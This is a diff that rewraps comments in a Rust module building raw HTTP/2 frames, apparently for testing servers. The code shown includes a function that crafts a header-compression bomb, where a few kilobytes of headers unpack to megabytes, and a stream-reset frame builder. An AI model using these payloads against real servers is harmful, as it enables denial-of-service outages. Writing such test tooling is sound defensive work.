@@ -1,4 +1,5 @@
-//! HTTP/2 frames as bytes, well-formed and not: an attack needs no more of the protocol than this (RFC 9113, RFC 7541).
+//! HTTP/2 frames as bytes, well-formed and not: an attack needs no more of the protocol than this
+//! (RFC 9113, RFC 7541).
 
 /// What every client says first (RFC 9113, section 3.4).
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
@@ -46,10 +47,12 @@ pub fn reset(id: u32) -> Vec<u8> {
     frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes())
 }
 
-/// A GET whose head of a few kilobytes unpacks to megabytes: one large field is put into the table and then named `times` times.
+/// A GET whose head of a few kilobytes unpacks to megabytes: one large field is put into the table
+/// and then named `times` times.
 pub fn bomb(id: u32, path: &str, times: usize) -> Vec<u8> {
     let mut block = request(path);
-    // Literal with indexing, new name (RFC 7541, section 6.2.1); the table's 4096 bytes have room for this one.
+    // Literal with indexing, new name (RFC 7541, section 6.2.1); the table's 4096 bytes have room
+    // for this one.
     block.push(0x40);
     literal(&mut block, b"x-bomb");
     literal(&mut block, &[b'x'; 3_900]);
@@ -68,7 +71,8 @@ pub fn field(name: &str, value: &[u8]) -> Vec<u8> {
 
 /// Method GET, scheme https, `path`, authority `test`.
 fn request(path: &str) -> Vec<u8> {
-    // Indexed fields 2 and 7 of the static table; names 4 and 1 with values that are not for the table.
+    // Indexed fields 2 and 7 of the static table; names 4 and 1 with values that are not for the
+    // table.
     let mut block = vec![0x82, 0x87, 0x04];
     literal(&mut block, path.as_bytes());
     block.push(0x01);
